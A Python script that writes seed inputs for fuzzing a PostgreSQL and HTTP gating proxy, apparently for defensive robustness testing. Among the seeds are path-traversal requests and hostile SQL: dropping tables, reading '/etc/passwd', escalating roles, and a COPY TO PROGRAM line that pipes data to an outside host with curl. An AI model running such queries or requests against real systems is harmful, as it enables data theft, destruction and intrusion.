#!/usr/bin/env python3
"""Writes the hand-made seed inputs under fuzz/corpus/<target>/seed-*.

Run from the repository root (`python3 fuzz/seeds.py`); the fuzzer's own
finds are kept next to them (minimised with `cargo fuzz cmin`).
"""
import pathlib
import re
import struct

ROOT = pathlib.Path(__file__).resolve().parent.parent
CORPUS = ROOT / "fuzz" / "corpus"


def write(target, name, data):
    d = CORPUS / target
    d.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    (d / f"seed-{name}").write_bytes(data)


# PostgreSQL start-up: what psql, libpq and drivers send first.
def packet(body):
    return struct.pack(">i", len(body) + 4) + body


def startup(params, version=196608):
    body = struct.pack(">i", version)
    for k, v in params:
        body += k.encode() + b"\0" + v.encode() + b"\0"
    return packet(body + b"\0")


def password(pw):
    body = pw.encode() + b"\0"
    return b"p" + struct.pack(">i", len(body) + 4) + body


SSL = packet(struct.pack(">i", 80877103))
GSSENC = packet(struct.pack(">i", 80877104))
PSQL = [("user", "etl"), ("database", "orders"), ("application_name", "psql"),
        ("client_encoding", "UTF8")]
JWT = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJhbGljZSJ9.c2ln"
write("pg_startup", "psql", GSSENC + SSL + startup(PSQL))
write("pg_startup", "jdbc", startup([("user", "app"), ("database", "orders"),
                                     ("client_encoding", "UTF8"), ("DateStyle", "ISO"),
                                     ("TimeZone", "UTC"), ("extra_float_digits", "2")]))
write("pg_startup", "jwt-password", startup(PSQL) + password(JWT))
write("pg_startup", "cancel", packet(struct.pack(">iii", 80877102, 4242, 0x5eC0E7)))
write("pg_startup", "replication", startup([("user", "etl"), ("replication", "database")]))
write("pg_startup", "pq-option", startup([("user", "etl"), ("_pq_.protocol_managed_params", "x")]))
write("pg_startup", "protocol-2", startup([("user", "etl")], version=0x20000))
write("pg_startup", "no-user", startup([("database", "orders")]))
write("pg_startup", "unterminated", packet(struct.pack(">i", 196608) + b"user\0etl"))
write("pg_startup", "huge-length", struct.pack(">i", 1 << 30) + b"\0\3\0\0")

# HTTP request heads toward a target.
H = "Host: orders.internal:8080\r\n"
for name, head in {
    "dotdot-encoded": f"GET /a/%2e%2e/b HTTP/1.1\r\n{H}\r\n",
    "double-slash": "GET //x HTTP/1.1\r\nHost: orders.internal\r\n\r\n",
    "dot-segments": f"GET /./items/../admin/./x/?page=2 HTTP/1.1\r\n{H}\r\n",
    "unreserved-escapes": f"GET /%61dmin/%7Euser/a%20b/q%3fx HTTP/1.1\r\n{H}\r\n",
    "path-params": f"GET /public/..;/admin HTTP/1.1\r\n{H}\r\n",
    "encoded-slash": f"GET /admin%2Fx%5c%00 HTTP/1.1\r\n{H}\r\n",
    "absolute-form": "GET http://orders.internal:8080/%61dmin?x=1 HTTP/1.1\r\n" + H + "\r\n",
    "absolute-form-other-host": "GET http://billing.internal:8080/x HTTP/1.1\r\n" + H + "\r\n",
    "two-hosts": f"GET / HTTP/1.1\r\n{H}Host: billing.internal:8080\r\n\r\n",
    "ipv6-host": "OPTIONS * HTTP/1.1\r\nHost: [::1]:8080\r\n\r\n",
    "ip-host-trailing-dot": "GET /x HTTP/1.1\r\nHost: orders.internal.:8080\r\n\r\n",
    "bearer-and-hop-by-hop": (
        "DELETE /admin/users/1 HTTP/1.1\r\nHost: 127.10.4.1\r\n"
        "Authorization: Bearer  eyJhbGciOiJFUzI1NiJ9.e30.c2ln \r\n"
        "Connection: keep-alive, x-trace, te\r\nX-Trace: 1\r\nTE: trailers\r\n"
        "Keep-Alive: timeout=5\r\nProxy-Authorization: Basic YTpi\r\n"
        "Upgrade: websocket\r\nX-Kept: 1\r\n\r\n"),
    "pipelined": (
        f"POST /api/v1/../orders HTTP/1.1\r\n{H}Content-Length: 5\r\n\r\nhello"
        f"PUT /api/v1/orders/7 HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n"
        "5\r\nhello\r\n0\r\n\r\n"
        f"GET /api/v1/orders HTTP/1.1\r\n{H}Connection: close\r\n\r\n"),
    "http10": "GET /a/./b/../../../c/ HTTP/1.0\r\n\r\n",
    "bad-escape": f"GET /a%zz/%4 HTTP/1.1\r\n{H}\r\n",
}.items():
    write("http_path", name, head)

# Policy files: the repository's own, the documented example, the tests'.
write("policy", "default", (ROOT / "policies/default.toml").read_bytes())
doc = (ROOT / "agent/src/policy/model.rs").read_text()
example = re.search(r"//! ```toml\n(.*?)//! ```", doc, re.S).group(1)
write("policy", "documented", re.sub(r"^//! ?", "", example, flags=re.M))
tests = (ROOT / "agent/src/policy/tests.rs").read_text()
for i, text in enumerate(re.findall(r'r#"(.*?)"#', tests, re.S)):
    if "[[" in text or "[defaults]" in text:
        # Rules in one file may name workloads and targets of another.
        write("policy", f"tests-{i}", text)
write("policy", "two-files",
      '[[workloads]]\nname = "etl"\nworkload = "etl-*"\n\0'
      '[[rules]]\nid = "etl-api"\nworkloads = ["etl"]\ntargets = ["api"]\n'
      'methods = ["DELETE"]\npaths = ["/admin/**"]\naction = "approve"\ngrant = "session"\n')
write("policy", "http-rules", (
    '[[targets]]\nname = "api"\ndefault = "allow"\nrequest_default = "approve"\n'
    '[[rules]]\nid = "reads"\ntargets = ["api"]\nkinds = ["request"]\nmethods = ["GET"]\n'
    'action = "allow"\n[[rules]]\nid = "mask-orders"\ntargets = ["*"]\nprotocols = ["http"]\n'
    'paths = ["/orders/*"]\naction = "mask"\nmask = ["card_number"]\n'))

# CEL conditions, well-formed and broken (0.9.1's parser panicked on odd
# byte-string escapes: such a policy must be an error, never a crash).
for i, when in enumerate([
    "http.method == 'DELETE' && http.path.startsWith('/admin/')",
    "http.headers['x-env'] == 'prod' && !('ops' in jwt.claims.groups)",
    "workload.matches('^etl-[0-9]+$') || uid == 0",
    "http.path.matches('(a+)+$') && size(http.headers) > 3",
    "b'{||\\\\b',1",
    "http.method == ",
    "[1, 2, 3].exists(x, x > uid)",
]):
    write("policy", f"when-{i}",
          f'[[rules]]\nid = "w{i}"\ntargets = ["*"]\nwhen = "{when}"\naction = "deny"\n')

# Query strings: what loops send, and what naive splitters get wrong.
for i, q in enumerate([
    "SELECT o.id, c.email FROM orders o JOIN crm.customers c ON c.id = o.customer_id",
    "DROP TABLE scratch; insert into t values (1)",
    "select $$ ; drop table x $$; select $t$ $$ $t$",
    "select 1 /* outer /* nested ; drop table x */ still */; delete from y",
    "select E'it''s \\' ; drop table x'",
    "select * from U&\"d\\0061ta\" UESCAPE '\\'",
    "WITH pii AS (SELECT * FROM pii) SELECT * FROM pii",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    "COPY orders TO PROGRAM 'curl -d @- https://x'",
    "UPDATE orders SET paid = true; ALTER ROLE app PASSWORD 'x'; SET ROLE admin",
    "DO $$ BEGIN PERFORM pg_sleep(1); END $$; CALL app.refresh(1)",
    "SELECT pg_catalog.pg_read_file('/etc/passwd') FROM pg_ls_dir('.') AS f",
    "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1; EXECUTE q(1)",
    "l'acqua e' poca",
]):
    write("pg_sql", f"q{i}", q)

# Sessions after the login: a queue of expected answers (count, then one
# byte each, modulo 11: 0 Parse, 1 Bind, 2 Describe, 3 Close, 4 Execute,
# 5 Sync, 6 Query, 7 FunctionCall, 8 the agent's lookup, 9 a failing Parse
# in place of a refusal, 10 its own answer (bit 0x80: then ReadyForQuery;
# bit 0x40: masked)), then messages read both as the loop's and as the
# server's.
def msg(t, body=b""):
    return t + struct.pack(">i", len(body) + 4) + body


def cstr(s):
    return s.encode() + b"\0"


LOOP = (msg(b"Q", cstr("SELECT 1; DROP TABLE x"))
        + msg(b"P", cstr("s1") + cstr("SELECT $1") + struct.pack(">hi", 1, 23))
        + msg(b"B", cstr("") + cstr("s1") + struct.pack(">hhhi", 1, 0, 1, 2) + b"42" + struct.pack(">hh", 1, 1))
        + msg(b"D", b"P" + cstr("")) + msg(b"E", cstr("") + struct.pack(">i", 10))
        + msg(b"C", b"S" + cstr("s1")) + msg(b"H") + msg(b"S")
        + msg(b"F", struct.pack(">ih", 952, 0)) + msg(b"d", b"1\n") + msg(b"c") + msg(b"X"))
SERVER = (msg(b"1") + msg(b"2") + msg(b"t", struct.pack(">hi", 1, 23))
          + msg(b"T", struct.pack(">h", 1) + cstr("id") + struct.pack(">ihihih", 0, 0, 23, 4, -1, 0))
          + msg(b"D", struct.pack(">hi", 1, 1) + b"1") + msg(b"C", cstr("SELECT 1"))
          + msg(b"E", b"SERROR\0C42P01\0Mno\0\0") + msg(b"N", b"SNOTICE\0Mhi\0\0")
          + msg(b"A", struct.pack(">i", 7) + cstr("jobs") + cstr("x"))
          + msg(b"S", cstr("TimeZone") + cstr("UTC")) + msg(b"s") + msg(b"I") + msg(b"3")
          + msg(b"n") + msg(b"G", b"\0\0\0") + msg(b"V", struct.pack(">i", -1)) + msg(b"Z", b"I"))
write("pg_messages", "loop", b"\0" + LOOP)
write("pg_messages", "server-extended", bytes([7, 0, 1, 2, 4, 3, 5, 10]) + SERVER)
write("pg_messages", "server-query", bytes([3, 6, 0x83, 6]) + SERVER)
write("pg_messages", "server-refusal", bytes([4, 0, 4, 9, 5]) + SERVER)
write("pg_messages", "server-lookup", bytes([2, 8, 7]) + SERVER)
write("pg_messages", "bad-length", b"\0Q\xff\xff\xff\xff")
ROWS = (msg(b"T", struct.pack(">h", 2) + cstr("email") + struct.pack(">ihihih", 0, 0, 25, -1, -1, 0)
            + cstr("secret_note") + struct.pack(">ihihih", 0, 0, 23, 4, -1, 1))
        + msg(b"D", struct.pack(">hi", 2, 15) + b"ann@example.com" + struct.pack(">i", 4) + b"\0\0\0\1")
        + msg(b"d", b"ann@example.com\t4111 1111 1111 1111\n")
        + msg(b"E", b"SERROR\0C22P02\0Minvalid input: \"ann@example.com\"\0\0")
        + msg(b"A", struct.pack(">i", 7) + cstr("jobs") + cstr("bob@example.com"))
        + msg(b"C", cstr("SELECT 1")) + msg(b"Z", b"I"))
write("pg_messages", "masked", bytes([3, 0x46, 0x44, 5]) + ROWS)

# Agent configs: the shipped example and the tests' snippets.
write("config", "dist", (ROOT / "dist/agent.toml").read_bytes())
config = (ROOT / "agent/src/config/mod.rs").read_text()
for i, text in enumerate(re.findall(r'"(\[agent\][^"\\]*(?:\\.[^"\\]*)*)"', config)):
    write("config", f"tests-{i}", text.encode().decode("unicode_escape"))
write("config", "full", """\
[agent]
cgroup_root = "loopgate/ci"
proxy_port = 15001
admin_socket = "/run/loopgate/admin.sock"
admin_http = "[::1]:15002"
state_dir = "/var/lib/loopgate"
policies = "/etc/loopgate/policies"
egress = "audit"
ebpf_log = "debug"
shutdown_grace_secs = 30
resolve_interval_secs = 60
connect_timeout_secs = 5

[audit]
clickhouse_url = "https://ch.internal:8443"
database = "loopgate_ci"
retention_days = 7
flush_interval_ms = 50
capture_bytes = 4096

[approvals]
page_url = "http://127.0.0.1:15002/approvals"
webhooks = ["https://hooks.example/T0/B0/secret"]

[[approvers]]
name = "bob"
uid = 1001

[[workloads]]
name = "etl"
cgroup = "system.slice/etl.service"

[[targets]]
name = "api"
address = "[fd00::5]:443"
protocol = "http"
[targets.credential]
token_env = "API_TOKEN"

[[targets]]
name = "pg"
address = "127.10.0.5:5432"
protocol = "postgres"
auth_methods = ["scram-sha-256", "md5"]
[targets.credential]
username = "app"
password_env = "PG_PASSWORD"
ca_file = "/etc/loopgate/pg-ca.pem"
""")
